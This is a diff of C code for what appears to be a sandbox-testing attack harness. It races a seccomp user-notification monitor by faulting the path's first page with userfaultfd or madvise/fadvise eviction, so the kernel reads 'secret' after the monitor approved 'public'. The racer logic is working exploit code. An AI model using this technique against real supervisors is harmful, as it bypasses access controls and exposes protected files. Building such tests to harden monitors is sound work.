@@ -2,31 +2,28 @@
  * page faults when the kernel copies the path again (userfaultfd, else a dropped file page). */
 /*
  * The path is "dir/" at the end of page 1 and the name ("public" or
- * "secret") at the start of page 2.  A racer thread watches the attacking
- * thread's wchan: while that thread waits for the monitor's answer
- * (seccomp_do_user_notification) the racer keeps page 1 dropped; when the
- * wait ends, the decision has been made and answered, so it drops page 1
- * once more and writes the secret's name into page 2.  A monitor that let
- * the kernel copy the path again now loses if the kernel's copy stalls on
- * page 1 long enough for that write to land, and the stall is what the
- * two classes make as long as they can:
+ * "secret") at the start of page 2.  A racer thread keeps page 1 away
+ * (dropped with MADV_DONTNEED whenever mincore(2) shows it back), so that
+ * each copy of the path, the monitor's and the kernel's second one, stalls
+ * on page 1 before it reaches the name:
  *
- * widen-uffd: page 1 is registered with userfaultfd (missing mode).  A
- * fault on it by another process (the monitor copying the path) is served
- * at once; a fault by our own thread (the kernel copying the path for the
- * system call) is held until the handler has written the secret's name
- * into page 2, so the kernel reads it whenever page 1 was gone.  Where
- * userfaultfd is refused (policyctl run refuses it, so that a target
- * cannot stall the supervisor), the attack is widen-madvise and says so in
- * its mode.
+ * widen-uffd: page 1 is registered with userfaultfd (missing mode), and
+ * its fault handler decides what the copy will find in page 2: the
+ * permitted name for a fault by another process (the monitor copying the
+ * path), the secret's name for a fault by our own thread (the kernel
+ * copying the path again for the system call).  Whenever page 1 was
+ * dropped between the two copies, the monitor that let the kernel copy
+ * again loses.  Where userfaultfd is refused (policyctl run refuses it, so
+ * that a target cannot stall the supervisor), the attack is widen-madvise
+ * and says so in its mode.
  *
  * widen-madvise (Watson's widening of wrapper races): page 1 is a private
- * mapping of a file, dropped with MADV_DONTNEED and evicted from the page
- * cache with POSIX_FADV_DONTNEED, so the kernel's copy takes a major fault
- * (a disk read) before it reaches page 2.
+ * mapping of a file, dropped and evicted from the page cache
+ * (POSIX_FADV_DONTNEED), so a copy takes a major fault (a disk read, 100
+ * to 300 microseconds here) before it reaches page 2, while the racer
+ * flips the name there between the permitted one and the secret's.
  *
- * A monitor that copies the path once never sees page 2 change during its
- * decision, and acts on its own copy.
+ * A monitor that copies the path once decides on its copy and acts on it.
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -47,17 +44,14 @@
 #define SECRET_TEXT	"SECRET-BYTES"
 #define PUBLIC_TEXT	"public-bytes"
 
-/* Attempt states: the attacker arms, the racer engages, then is done. */
-enum { IDLE, ARMED, ENGAGED, DONE };
-
 struct widen {
 	char		*pages;		/* page 1 (faulting) + page 2 (name) */
 	char		*path;
 	int		fd;		/* madvise: the file behind page 1 */
 	int		uffd;		/* userfaultfd, or -1 */
 	pid_t		self;		/* the attacking thread */
-	atomic_int	state;
 	atomic_int	stop;
+	_Atomic double	served_at;	/* uffd: last fault served */
 	char		*prefix;	/* uffd: the content of page 1 */
 };
 
@@ -85,62 +79,47 @@ drop_page1(struct widen *w)
 		(void)posix_fadvise(w->fd, 0, PAGE, POSIX_FADV_DONTNEED);
 }
 
+/* Is page 1 there (so that the next read would not fault)? */
+static int
+page1_present(struct widen *w)
+{
+	unsigned char v = 0;
+
+	return mincore(w->pages, PAGE, &v) == 0 && (v & 1);
+}
+
 static void
 write_name(struct widen *w, const char *name)
 {
 	flip_bytes(w->pages + PAGE, name, 6);
 }
 
-/* The racer: see the description at the top. */
-static void *
-racer(void *arg)
+/* The racer: keep page 1 away; madvise: also flip the name.  After a
+ * uffd fault is served the page is left for a microsecond, or the reader
+ * would fault again and again before it could take it. */
+static void
+race(void *arg, unsigned phase)
 {
 	struct widen *w = arg;
-	char wpath[64], buf[64];
-	int fd, seen = 0;
-	unsigned long k = 0;
-	struct place pl;
 
-	place_init(&pl, w->self);
-	snprintf(wpath, sizeof(wpath), "/proc/self/task/%d/wchan", (int)w->self);
-	if ((fd = open(wpath, O_RDONLY | O_CLOEXEC)) < 0)
-		die("%s: %s", wpath, strerror(errno));
-	while (!atomic_load(&w->stop)) {
-		ssize_t n;
-		int waiting;
-
-		if ((k++ & 255) == 0)
-			place_step(&pl);
-		if (atomic_load(&w->state) != ARMED) {
-			seen = 0;
-			continue;
-		}
-		if ((n = pread(fd, buf, sizeof(buf) - 1, 0)) < 0)
-			break;
-		buf[n] = '\0';
-		waiting = strncmp(buf, "seccomp_do_user_notification", 28) == 0;
-		if (waiting) {
-			seen = 1;
-			drop_page1(w);
-			continue;
-		}
-		if (!seen)
-			continue;
-		/* the wait is over: the monitor has answered */
-		if (atomic_compare_exchange_strong(&w->state,
-		    &(int){ ARMED }, ENGAGED)) {
-			drop_page1(w);
-			write_name(w, "secret");
-			atomic_store(&w->state, DONE);
-		}
-		seen = 0;
-	}
-	close(fd);
-	return NULL;
+	(void)phase;
+	if (w->uffd >= 0 && now() - atomic_load(&w->served_at) < 1e-6)
+		return;
+	if (page1_present(w))
+		drop_page1(w);
 }
 
-/* userfaultfd: serve page 1; a read by our own thread (the kernel's second
- * copy) only once the secret's name is in page 2. */
+/* madvise: a second racer flips the name (the first may block in the
+ * eviction for as long as a disk read takes). */
+static void
+flip_name(void *arg, unsigned phase)
+{
+	write_name(arg, phase ? "public" : "secret");
+}
+
+/* userfaultfd: serve page 1, with page 2 holding the name the reader
+ * should find: the secret's for our own thread (the kernel's second
+ * copy), the permitted one for anyone else (the monitor). */
 static void *
 uffd_handler(void *arg)
 {
@@ -155,14 +134,14 @@ uffd_handler(void *arg)
 		    read(w->uffd, &msg, sizeof(msg)) != (ssize_t)sizeof(msg) ||
 		    msg.event != UFFD_EVENT_PAGEFAULT)
 			continue;
-		if ((pid_t)msg.arg.pagefault.feat.ptid == w->self &&
-		    atomic_load(&w->state) != IDLE)
-			write_name(w, "secret");
+		write_name(w, (pid_t)msg.arg.pagefault.feat.ptid == w->self ?
+		    "secret" : "public");
 		memset(&cp, 0, sizeof(cp));
 		cp.dst = (uintptr_t)w->pages;
 		cp.src = (uintptr_t)w->prefix;
 		cp.len = PAGE;
 		(void)ioctl(w->uffd, UFFDIO_COPY, &cp);
+		atomic_store(&w->served_at, now());
 	}
 	return NULL;
 }
@@ -171,17 +150,8 @@ static void
 open_once(struct widen *w, struct atk_result *r)
 {
 	char buf[64];
-	int fd, st;
+	int fd = open(w->path, O_RDONLY | O_CLOEXEC);
 
-	write_name(w, "public");
-	atomic_store(&w->state, ARMED);
-	fd = open(w->path, O_RDONLY | O_CLOEXEC);
-	/* disarm, or wait for an engaged racer to finish */
-	if (!atomic_compare_exchange_strong(&w->state, &(int){ ARMED }, IDLE)) {
-		while ((st = atomic_load(&w->state)) == ENGAGED)
-			;
-		atomic_store(&w->state, IDLE);
-	}
 	r->attempts++;
 	if (fd < 0) {
 		if (errno == EACCES)
@@ -242,7 +212,8 @@ static void
 widen_attack(const char *dir, long n, struct atk_result *r, int use_uffd)
 {
 	struct widen w;
-	pthread_t rth, hth;
+	struct flipper f, g;
+	pthread_t hth;
 	long i;
 	int e;
 
@@ -265,16 +236,20 @@ widen_attack(const char *dir, long n, struct atk_result *r, int use_uffd)
 	}
 	widen_map(&w, dir);
 	w.self = (pid_t)syscall(SYS_gettid);
-	atomic_store(&w.state, IDLE);
 	atomic_store(&w.stop, 0);
-	if ((e = pthread_create(&rth, NULL, racer, &w)) != 0 ||
-	    (w.uffd >= 0 &&
-	    (e = pthread_create(&hth, NULL, uffd_handler, &w)) != 0))
+	atomic_store(&w.served_at, 0);
+	if (w.uffd >= 0 &&
+	    (e = pthread_create(&hth, NULL, uffd_handler, &w)) != 0)
 		die("pthread_create: %s", strerror(e));
+	flip_start(&f, race, &w);
+	if (w.uffd < 0)
+		flip_start_placed(&g, flip_name, &w, 0);
 	for (i = 0; i < n; i++)
 		open_once(&w, r);
+	flip_stop(&f);
+	if (w.uffd < 0)
+		flip_stop(&g);
 	atomic_store(&w.stop, 1);
-	pthread_join(rth, NULL);
 	if (w.uffd >= 0) {
 		pthread_join(hth, NULL);
 		close(w.uffd);
